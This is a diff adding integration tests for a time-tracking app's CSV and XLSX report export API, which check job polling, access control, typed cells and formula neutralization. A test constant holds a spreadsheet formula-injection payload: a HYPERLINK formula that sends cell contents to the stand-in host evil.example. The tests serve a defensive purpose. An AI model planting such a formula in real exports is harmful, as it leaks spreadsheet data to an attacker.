@@ -1,0 +1,108 @@
+"""Exports: 202 + job, status, download; CSV safe in spreadsheets, XLSX typed."""
+
+from __future__ import annotations
+
+import asyncio
+import csv
+import io
+from datetime import date, datetime, timedelta
+
+from tests.integration.reports.helpers import entry, make_team, minutes, person, sync, utc
+from tests.support.api import Account, create_project, register
+
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+async def _finished(acc: Account, job_id: str) -> dict:
+    for _ in range(200):
+        r = await acc.get(f"/api/v1/reports/exports/{job_id}")
+        assert r.status_code == 200, r.text
+        body = r.json()
+        if body["status"] in ("DONE", "FAILED"):
+            return body  # type: ignore[no-any-return]
+        await asyncio.sleep(0.05)
+    raise AssertionError("export did not finish")
+
+
+async def _setup(client) -> tuple[Account, Account, Account, str]:
+    owner = await register(client)
+    ann = await person(owner, "Ann Analyst", "Europe/Berlin")
+    bob = await person(owner, "-Bob", "UTC")  # a name that looks like a formula
+    team_id = await make_team(owner, "Export team", [], [ann, bob])
+    project = await create_project(owner, "+Project")
+    # Berlin: 2026-01-12 09:00-11:30 local (08:00-10:30Z), half of it active.
+    a = entry(utc(2026, 1, 12, 8, 0), utc(2026, 1, 12, 10, 30), project["id"], description=EVIL)
+    await sync(ann, [a], minutes(a["idempotencyKey"], utc(2026, 1, 12, 8, 0), 150, 30))
+    b = entry(utc(2026, 1, 13, 23, 0), utc(2026, 1, 14, 0, 45), description="@night shift")
+    await sync(bob, [b])
+    return owner, ann, bob, team_id
+
+
+async def test_csv_export_streams_and_neutralizes_formulas(client) -> None:
+    owner, ann, bob, team_id = await _setup(client)
+    r = await owner.get("/api/v1/reports/export",
+                        params={"format": "csv", "from": "2026-01-12", "to": "2026-01-13",
+                                "teamId": team_id})
+    assert r.status_code == 202, r.text
+    job_id = r.json()["jobId"]
+    assert r.headers["location"].endswith(f"/exports/{job_id}")
+    done = await _finished(owner, job_id)
+    assert done["status"] == "DONE" and done["rowCount"] == 2, done
+    assert done["downloadUrl"] == f"/api/v1/reports/exports/{job_id}/download"
+    r = await owner.get(done["downloadUrl"])
+    assert r.status_code == 200
+    assert r.headers["content-type"].startswith("text/csv")
+    assert "attachment" in r.headers["content-disposition"]
+    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
+    header, *data = rows
+    assert header[:4] == ["Date", "Person", "Email", "Project"]
+    by_person = {row[1]: dict(zip(header, row, strict=True)) for row in data}
+    annrow = by_person["Ann Analyst"]
+    assert annrow["Date"] == "2026-01-12" and annrow["Start"] == "2026-01-12 09:00:00"
+    assert annrow["Duration"] == "2:30:00" and annrow["Hours"] == "2.5"
+    assert annrow["Active"] == "1:15:00" and annrow["Activity %"] == "50.0"
+    assert annrow["Project"] == "'+Project"
+    assert annrow["Description"] == "'" + EVIL
+    bobrow = by_person["'-Bob"]  # the formula-like name is neutralized too
+    assert bobrow["Description"] == "'@night shift" and bobrow["Duration"] == "1:45:00"
+    assert bobrow["Time zone"] == "UTC"
+    # Only the person who asked sees the job; another organization gets 404.
+    assert (await ann.get(f"/api/v1/reports/exports/{job_id}")).status_code == 404
+    assert (await ann.get(done["downloadUrl"])).status_code == 404
+    stranger = await register(client, org_name="Else")
+    assert (await stranger.get(f"/api/v1/reports/exports/{job_id}")).status_code == 404
+
+
+async def test_xlsx_export_has_real_types(client) -> None:
+    import openpyxl
+
+    owner, ann, _bob, _team = await _setup(client)
+    r = await ann.get("/api/v1/reports/export",
+                      params={"format": "xlsx", "from": "2026-01-01", "to": "2026-01-31"})
+    assert r.status_code == 202
+    done = await _finished(ann, r.json()["jobId"])
+    assert done["status"] == "DONE" and done["rowCount"] == 1  # a MEMBER exports only self
+    r = await ann.get(done["downloadUrl"])
+    assert r.headers["content-type"].startswith("application/vnd.openxmlformats")
+    sheet = openpyxl.load_workbook(io.BytesIO(r.content)).active
+    header = [c.value for c in sheet[1]]
+    row = {h: c for h, c in zip(header, sheet[2], strict=True)}
+    assert isinstance(row["Date"].value, datetime) and row["Date"].value.date() == date(2026, 1, 12)
+    assert row["Start"].value == datetime(2026, 1, 12, 9, 0)
+    assert row["Duration"].value == timedelta(hours=2, minutes=30)
+    assert row["Duration"].number_format == "[h]:mm:ss"
+    assert row["Hours"].value == 2.5 and row["Activity %"].value == 50.0
+    assert row["Description"].data_type == "s" and row["Description"].value == EVIL
+
+
+async def test_export_bad_input(client) -> None:
+    owner = await register(client)
+    r = await owner.get("/api/v1/reports/export", params={"format": "pdf"})
+    assert r.status_code == 400 and "csv or xlsx" in r.json()["detail"]
+    r = await owner.get("/api/v1/reports/export", params={"from": "2026-02-01", "to": "2026-01-01"})
+    assert r.status_code == 400
+    assert (await owner.get("/api/v1/reports/exports/not-a-uuid")).status_code == 404
+    r = await owner.get("/api/v1/reports/export")  # defaults: CSV of the last 7 days
+    assert r.status_code == 202
+    done = await _finished(owner, r.json()["jobId"])
+    assert done["status"] == "DONE" and done["rowCount"] == 0
